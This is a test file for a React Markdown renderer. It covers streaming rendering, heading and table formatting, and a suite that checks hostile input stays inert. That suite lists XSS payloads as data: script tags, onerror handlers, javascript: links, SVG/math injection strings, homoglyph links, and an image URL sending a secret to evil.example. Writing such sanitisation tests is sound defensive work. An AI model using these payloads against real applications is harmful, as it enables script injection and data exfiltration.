import { act, render } from "@testing-library/react";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { htmlOf } from "./htmlOf";
import { Markdown } from "./Markdown";
import { MarkdownBlock } from "./MarkdownBlock";
import { OpenLinkProvider } from "./opener";
import { samples } from "./samples";

describe("every prefix", () => {
  it.each(samples.map((text) => [text]))(
    "renders without throwing and ends as if rendered at once: %j",
    (text) => {
      const growing = render(<MarkdownBlock text="" growing />);
      for (let end = 1; end < text.length; end += 1) {
        growing.rerender(<MarkdownBlock text={text.slice(0, end)} growing />);
      }
      growing.rerender(<MarkdownBlock text={text} />);
      const once = render(<MarkdownBlock text={text} />);
      expect(growing.container.isEqualNode(once.container), growing.container.innerHTML).toBe(true);
    },
  );

  it.each(samples.filter((text) => !text.includes("[^1]")).map((text) => [text]))(
    "means the same in blocks as in one piece: %j",
    (text) => {
      const blocks = render(<Markdown text={text} growing={false} />);
      const whole = render(
        <div className="answer">
          <div>
            <MarkdownBlock text={`${text}\n`} />
          </div>
        </div>,
      );
      expect(htmlOf(blocks.container)).toBe(htmlOf(whole.container));
    },
  );
});

describe("a text that grows in the page", () => {
  let frames: FrameRequestCallback[] = [];
  let now = 0;

  /** One frame of the page, long after the one before it. */
  function frame(): void {
    const due = frames;
    frames = [];
    now += 1000;
    act(() => {
      for (const callback of due) callback(now);
    });
  }

  beforeEach(() => {
    frames = [];
    vi.stubGlobal("requestAnimationFrame", (callback: FrameRequestCallback) => frames.push(callback));
    vi.stubGlobal("cancelAnimationFrame", (handle: number) => {
      frames[handle - 1] = () => {};
    });
  });
  afterEach(() => void vi.unstubAllGlobals());

  it.each(samples.map((text) => [text]))("shows every prefix, and the whole as if at once: %j", (text) => {
    const growing = render(<Markdown text="" growing />);
    for (let end = 1; end <= text.length; end += 1) {
      growing.rerender(<Markdown text={text.slice(0, end)} growing />);
      frame();
    }
    growing.rerender(<Markdown text={text} growing={false} />);
    frame();
    const once = render(<Markdown text={text} growing={false} />);
    expect(growing.container.innerHTML).toBe(once.container.innerHTML);
    expect(growing.container.textContent).not.toBe("");
  });

  it("shows a piece in the frame after it came", () => {
    const growing = render(<Markdown text="" growing />);
    growing.rerender(<Markdown text="Some words" growing />);
    expect(growing.container.textContent).toBe("");
    frame();
    expect(growing.container.textContent).toBe("Some words");
  });
});

describe("hostile text", () => {
  const show = (text: string) => {
    const open = vi.fn();
    const { container } = render(
      <OpenLinkProvider value={open}>
        <Markdown text={text} growing={false} />
      </OpenLinkProvider>,
    );
    return { container, open };
  };
  const forbidden =
    "script, iframe, object, embed, style, link, svg:not(.lucide), math, form, base, meta, video, audio, img";

  it.each([
    "![x](https://evil.example/p.png?q=SECRET)",
    "![a]\n\n[a]: https://evil.example/x",
    '<img src="https://evil.example/x">',
    '<p style="background:url(https://evil.example)">x</p>',
    '<link rel=prefetch href="https://evil.example">',
    '<svg><image href="https://evil.example"/></svg>',
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<math><mtext><style><img onerror=alert(1)></style></mtext></math>",
    "<img src=x onerror=1>.pdf",
    "a <b onclick=alert(1)>b</b> c",
    "[x](javascript:alert(1)) [y](vbscript:x) [z](data:text/html,<script>1</script>)",
    "[x](JaVaScRiPt:alert(1)) [y](java\tscript:alert(1)) <javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{https://evil.example/x.png}$$",
  ])("stays text: %s", (text) => {
    const { container } = show(text);
    expect([...container.querySelectorAll(forbidden)]).toEqual([]);
    for (const element of container.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/i);
        expect(value).not.toMatch(/javascript:|vbscript:|data:text|url\(/i);
      }
    }
  });

  it("keeps what was written readable", () => {
    const { container } = show("Use <script>alert(1)</script> or `<b>`.");
    expect(container.textContent).toContain("<script>alert(1)</script>");
  });

  it("shows the host of a picture from the network, and opens it outside only on request", () => {
    const { container, open } = show("![chart](https://evil.example/p.png?q=1)");
    expect(container.textContent).toContain("evil.example");
    container.querySelector<HTMLButtonElement>("button")?.click();
    expect(open).toHaveBeenCalledWith("https://evil.example/p.png?q=1");
  });

  it("shows where a link leads when its text says otherwise", () => {
    const { container, open } = show(
      "[https://bank.example](https://evil.example/x) [plain](https://a.example)",
    );
    const [liar, honest] = container.querySelectorAll("a");
    expect(liar?.textContent).toContain("leads to evil.example");
    expect(honest?.textContent).toBe("plain");
    liar?.click();
    expect(open).toHaveBeenCalledWith("https://evil.example/x");
  });

  it("writes hosts in other scripts as they really are", () => {
    const { container } = show("[apple.com](https://аpple.com)");
    expect(container.textContent).toContain("leads to xn--pple-43d.com");
  });
});

describe("elements", () => {
  const html = (text: string) => render(<Markdown text={text} growing={false} />).container;

  it("shifts headings below those of the page", () => {
    expect([...html("# a\n## b\n### c").querySelectorAll("h1,h2,h3,h4,h5")].map((h) => h.tagName)).toEqual([
      "H3",
      "H4",
      "H5",
    ]);
  });

  it("sets columns of numbers to the end", () => {
    const cells = html("| a | n |\n|---|---|\n| x | 94 s |\n| y | 1,289 |").querySelectorAll("td, th");
    expect([...cells].map((cell) => cell.className)).toEqual(["", "to-end", "", "to-end", "", "to-end"]);
  });

  it("lets each block find its own direction, and code none", () => {
    const container = html("שלום\n\n- one\n\n`x`\n\n```\ny\n```");
    expect(container.querySelector("p")?.getAttribute("dir")).toBe("auto");
    expect(container.querySelector("li")?.getAttribute("dir")).toBe("auto");
    expect(container.querySelector("code")?.getAttribute("dir")).toBe("ltr");
    expect(container.querySelector("figure")?.getAttribute("dir")).toBe("ltr");
  });

  it("folds long code and unfolds it", async () => {
    const code = Array.from({ length: 60 }, (_, line) => `line ${line}`).join("\n");
    const container = html(`\`\`\`\n${code}\n\`\`\``);
    expect(container.querySelector("pre")?.textContent).not.toContain("line 24");
    const fold = container.querySelector<HTMLButtonElement>("button.fold");
    expect(fold?.textContent).toBe("Show all 60 lines");
  });

  it("takes money for money", () => {
    expect(html("costs $5 and $10").querySelector(".maths")).toBeNull();
    expect(html("$x^2$").querySelector(".maths")).not.toBeNull();
  });
});
